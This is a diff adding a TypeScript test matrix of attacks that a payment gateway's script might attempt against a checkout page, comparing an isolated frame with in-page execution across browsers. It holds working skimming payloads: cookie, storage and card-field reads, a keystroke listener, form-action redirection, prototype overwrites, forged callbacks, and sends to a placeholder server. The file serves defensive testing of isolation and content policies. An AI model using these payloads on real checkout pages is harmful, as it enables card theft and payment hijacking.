@@ -1,0 +1,217 @@
+/** What can be seen of an attack afterwards. */
+export interface Scene {
+  /** What the script took along in its answer. */
+  readonly loot: string;
+  /** The address of the page when the call had ended, and whether it is another one. */
+  readonly left: boolean;
+  readonly popups: number;
+  readonly dialogs: number;
+  readonly downloads: number;
+  /** Requests that arrived at another server. */
+  readonly elsewhere: number;
+  /** What the page's own message listener heard. */
+  readonly heard: readonly string[];
+  /** The longest time without a turn for the page, in milliseconds. */
+  readonly gap: number;
+  /** What the expression `harm` of the attack gave in the page. */
+  readonly harm: unknown;
+}
+
+/** The projects that run the attacks, as the columns of the page name them. */
+export const ENGINES = {
+  chromium: 'Chromium',
+  'chromium-one-process': 'Chromium without site isolation',
+  firefox: 'Firefox ESR',
+} as const;
+
+/** The tables of the page. */
+export const ISOLATED = 'Attacks on an isolated call';
+export const IN_PAGE = 'Attacks on a call in the page';
+
+export type Engine = keyof typeof ENGINES;
+
+/** What a gateway's script can try. In the page everything gets through. */
+export interface Attack {
+  readonly name: string;
+  /** Runs in the answer. `take(read)` tries something and keeps the result, `ELSEWHERE` is another server. */
+  readonly script: string;
+  /** Evaluated in the page afterwards. */
+  readonly harm?: string;
+  readonly gotThrough: (scene: Scene) => boolean;
+  /** It keeps the frame from answering, to have all the time of the call. */
+  readonly silent?: boolean;
+  /** The policy of the page, where it has one. */
+  readonly policy?: string;
+  /** Where it gets through although the call is isolated, and why that cannot be otherwise. */
+  readonly through?: readonly Engine[];
+  readonly because?: string;
+}
+
+const canary = ({ loot }: Scene) => loot.includes('canary');
+const harmed = ({ harm }: Scene) => Boolean(harm);
+const EVERYWHERE = Object.keys(ENGINES) as Engine[];
+
+/** Replaces a function of the page by one that does the same and leaves a trace. */
+const overwrite = (owner: string, name: string) => `
+  [self, parent].forEach(function (realm) {
+    take(function () {
+      var owner = realm.${owner}, original = owner.${name};
+      owner.${name} = function () { realm.touched = true; return original.apply(this, arguments); };
+    });
+  });`;
+
+const SEND = `
+  take(function () { fetch('ELSEWHERE', { mode: 'no-cors' }); });
+  take(function () { navigator.sendBeacon('ELSEWHERE'); });
+  take(function () { new Image().src = 'ELSEWHERE'; });
+  take(function () { document.head.append(Object.assign(document.createElement('script'), { src: 'ELSEWHERE' })); });
+  take(function () { document.documentElement.append(Object.assign(document.createElement('iframe'), { src: 'ELSEWHERE' })); });
+  take(function () { location.href = 'ELSEWHERE'; });`;
+
+export const attacks: readonly Attack[] = [
+  {
+    name: 'reads cookies',
+    script: 'take(function () { return document.cookie; }); take(function () { return parent.document.cookie; });',
+    gotThrough: canary,
+  },
+  {
+    name: 'reads the storage',
+    script: `[self, parent].forEach(function (realm) {
+      take(function () { return realm.localStorage.getItem('secret'); });
+      take(function () { return realm.sessionStorage.getItem('secret'); });
+    });`,
+    gotThrough: canary,
+  },
+  {
+    name: 'reads the card form',
+    script: 'take(function () { return parent.document.forms[0].elements.pan.value; });',
+    gotThrough: canary,
+  },
+  {
+    name: 'reads globals',
+    script: 'take(function () { return parent.secret; }); take(function () { return opener.secret; });',
+    gotThrough: canary,
+  },
+  {
+    name: "reads the page's address",
+    script: 'take(function () { return document.baseURI; });',
+    gotThrough: canary,
+    through: EVERYWHERE,
+    because:
+      'A `srcdoc` document has the base address of its page (HTML, 2.4.3), and a `data:` document, which has not, is ' +
+      'forbidden by most policies. Keep secrets out of the address.',
+  },
+  {
+    name: 'listens to what is typed',
+    script: `take(function () {
+      parent.document.addEventListener('input', function (event) { parent.stolen = event.target.value; });
+    });`,
+    harm: "document.forms[0].elements.pan.dispatchEvent(new Event('input', { bubbles: true })), window.stolen",
+    gotThrough: harmed,
+  },
+  {
+    name: 'turns the form to another server',
+    script: "take(function () { parent.document.forms[0].action = 'ELSEWHERE'; });",
+    harm: "!document.forms[0].action.endsWith('/paid')",
+    gotThrough: harmed,
+  },
+  {
+    name: 'overwrites JSON.parse',
+    script: overwrite('JSON', 'parse'),
+    harm: 'JSON.parse("1"), window.touched',
+    gotThrough: harmed,
+  },
+  {
+    name: 'overwrites Promise',
+    script: overwrite('Promise.prototype', 'then'),
+    harm: 'Promise.resolve().then(), window.touched',
+    gotThrough: harmed,
+  },
+  {
+    name: 'overwrites Array.prototype',
+    script: overwrite('Array.prototype', 'map'),
+    harm: '[].map(String), window.touched',
+    gotThrough: harmed,
+  },
+  {
+    name: 'answers another call',
+    script: `[self, parent].forEach(function (realm) {
+      take(function () {
+        Object.getOwnPropertyNames(realm).filter(function (name) {
+          return /^sg[0-9a-f]{16}$/.test(name) && name !== 'CALLBACK';
+        }).forEach(function (name) {
+          realm[name]({ reply: { response: 'Success', responsecode: '0', description: 'OK', datablock: 'forged' } });
+        });
+      });
+    });`,
+    harm: 'window.otherReply',
+    gotThrough: ({ harm }) => harm === 'forged',
+  },
+  {
+    name: 'posts messages to the page',
+    script: "take(function () { top.postMessage('forged', '*'); });",
+    gotThrough: ({ heard }) => heard.includes('forged'),
+    through: EVERYWHERE,
+    because:
+      'Every frame may post to its page (HTML, 9.3.3). A listener of the page must look at `event.origin`, which is ' +
+      '`null` here.',
+  },
+  {
+    name: 'opens a window',
+    script: "take(function () { open('ELSEWHERE'); }); take(function () { parent.open('ELSEWHERE'); });",
+    gotThrough: ({ popups }) => popups > 0,
+  },
+  {
+    name: 'shows a dialog',
+    script: 'take(function () { alert(1); }); take(function () { parent.alert(1); });',
+    gotThrough: ({ dialogs }) => dialogs > 0,
+  },
+  {
+    name: 'starts a download',
+    script: `take(function () {
+      var link = document.createElement('a');
+      link.href = URL.createObjectURL(new Blob(['x']));
+      link.download = 'x.txt';
+      document.documentElement.append(link);
+      link.click();
+    });`,
+    gotThrough: ({ downloads }) => downloads > 0,
+  },
+  {
+    name: 'navigates the page',
+    script: "take(function () { top.location.href = 'ELSEWHERE'; });",
+    gotThrough: ({ left }) => left,
+  },
+  {
+    name: 'goes back in the history',
+    script: 'take(function () { history.back(); });',
+    silent: true,
+    gotThrough: ({ left }) => left,
+  },
+  {
+    name: 'loops for a second',
+    script: 'for (var end = Date.now() + 1000; Date.now() < end; ) {}',
+    gotThrough: ({ gap }) => gap > 700,
+    through: ['chromium-one-process', 'firefox'],
+    because:
+      'A frame runs in the thread of its page unless the browser gives it a process of its own: Chromium on ' +
+      'desktop does, Firefox and Safari do not.',
+  },
+  {
+    name: 'sends what it has to another server',
+    script: SEND,
+    silent: true,
+    gotThrough: ({ elsewhere }) => elsewhere > 0,
+    through: EVERYWHERE,
+    because:
+      'A frame may load and may navigate itself. What it has is the call and the address of the page. It inherits the ' +
+      'policy of the page, and that stops it, as the next row shows.',
+  },
+  {
+    name: 'the same, where the page has a policy',
+    script: SEND,
+    silent: true,
+    policy: "default-src 'none'; script-src 'self' 'nonce-page' GATEWAY 'HASH'",
+    gotThrough: ({ elsewhere }) => elsewhere > 0,
+  },
+];
